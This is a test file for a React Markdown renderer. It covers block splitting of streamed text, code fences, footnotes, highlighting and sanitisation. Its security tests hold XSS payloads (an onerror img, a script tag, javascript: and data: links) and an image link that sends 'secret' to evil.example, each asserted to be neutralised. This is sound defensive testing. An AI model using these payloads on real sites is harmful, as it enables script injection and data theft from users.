import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { isOpenFence, splitter } from "../src/markdown/blocks";
import Markdown from "../src/markdown/Markdown";

afterEach(cleanup);

const TEXT = `# Title

A paragraph with a | in it
that goes on.

| a | b |
|---|---|
| 1 | 2 |

1. one

   more of one
2. two

\`\`\`python
print("hi")

print("there")
\`\`\`

> quoted

Setext
------

<div>
raw

</div>

    indented code

The end.`;

describe("blocks", () => {
  it("of a growing text are those of the whole, however it is cut", () => {
    const whole = splitter()(TEXT);
    expect(whole).toHaveLength(11);
    for (const step of [1, 2, 3, 7, 50]) {
      const split = splitter();
      for (let end = step; end < TEXT.length; end += step) split(TEXT.slice(0, end));
      expect(split(TEXT)).toEqual(whole);
    }
  });

  it("begin anew with another text", () => {
    const split = splitter();
    split(TEXT);
    expect(split("One.\n\nTwo.")).toEqual(["One.", "Two."]);
    expect(split("")).toEqual([]);
  });

  it.each([
    ["```js\nlet a", true], ["```js", true], ["```js\nlet a\n```", false], ["~~~\na\n```", true], ["````\n```\n````", false], ["text", false],
    ["```js\n  let a\n  ```", false], ["```js\n> let a\n> ```", false],
  ])("know an open fence: %j", (block, open) => expect(isOpenFence(block)).toBe(open));
});

describe("markdown", () => {
  const draw = (text: string, growing = false) => render(<Markdown text={text} growing={growing} />).container;

  it("shows raw HTML as text", () => {
    const box = draw('<img src=x onerror="alert(1)"><script>alert(1)</script> <b>bold</b>');
    expect(box.querySelector("img, script, b")).toBeNull();
    expect(box.textContent).toContain("<b>bold</b>");
  });

  it("drops addresses that are scripts, and opens others apart", () => {
    const box = draw("[bad](javascript:alert(1)) [worse](data:text/html,x) [good](https://example.org)");
    const links = [...box.querySelectorAll("a")];
    expect(links.map(({ href }) => href)).toEqual(["https://example.org/"]);
    expect(links[0]?.rel).toContain("noopener");
    expect(links[0]?.target).toBe("_blank");
    expect(box.textContent).toContain("bad");
  });

  it("resolves what one block defines and another one names", () => {
    const text = "See [the site][1], and a note[^n].\n\nMore.\n\n[1]: https://example.org\n\n[^n]: The text of the note.";
    const box = draw(text);
    expect(box.querySelector("a")?.href).toBe("https://example.org/");
    expect(box.textContent).toContain("The text of the note.");
    const reference = box.querySelector("sup a"), note = box.querySelector("section li");
    expect(reference?.getAttribute("href")).toBe(`#${note?.id ?? ""}`);
    expect(reference?.getAttribute("target")).toBeNull();
    const other = draw(text).querySelector("section li");
    expect(other?.id).not.toBe(note?.id);
  });

  it("loads no image", () => {
    const box = draw("![the weather](https://evil.example/?q=secret)");
    expect(box.querySelector("img")).toBeNull();
    expect(box.textContent).toBe("[the weather]");
  });

  it("draws finished blocks once while the text grows", () => {
    const { container, rerender } = render(<Markdown text={"First.\n\nSec"} growing />);
    const first = container.querySelector("p");
    rerender(<Markdown text={"First.\n\nSecond.\n\nThird"} growing />);
    expect(container.querySelectorAll("p")).toHaveLength(3);
    expect(container.querySelector("p")).toBe(first);
  });

  it("colours code when its fence is closed", async () => {
    const { container, rerender, findByText } = render(<Markdown text={"```python\nreturn 1"} growing />);
    expect(container.querySelector("pre")?.textContent).toBe("return 1");
    rerender(<Markdown text={"```python\nreturn 1\n```"} growing={false} />);
    expect((await findByText("return")).className).toContain("hljs-keyword");
  });
});

it("leaves code plain while its fence is open, also in a list", async () => {
  const list = "- See:\n  ```python\n  return 1";
  const { container, rerender, findByText } = render(<Markdown text={`${list}\n  \`\`\`\n\n  \`\`\`python\n  return 2`} growing />);
  expect((await findByText("return")).className).toContain("hljs-keyword");
  expect(container.querySelectorAll("pre")[1]?.innerHTML).toBe("<code>return 2</code>");
  rerender(<Markdown text={list} growing />);
  expect(container.querySelector("pre")?.innerHTML).toBe("<code>return 1</code>");
});

it("keeps the block of code that grows, with its focus and its place", () => {
  const { container, rerender } = render(<Markdown text={"```python\na = 1"} growing />);
  const block = container.querySelector("pre");
  rerender(<Markdown text={"```python\na = 1\nb = 2"} growing />);
  expect(container.querySelector("pre")).toBe(block);
  expect(block?.textContent).toContain("b = 2");
});
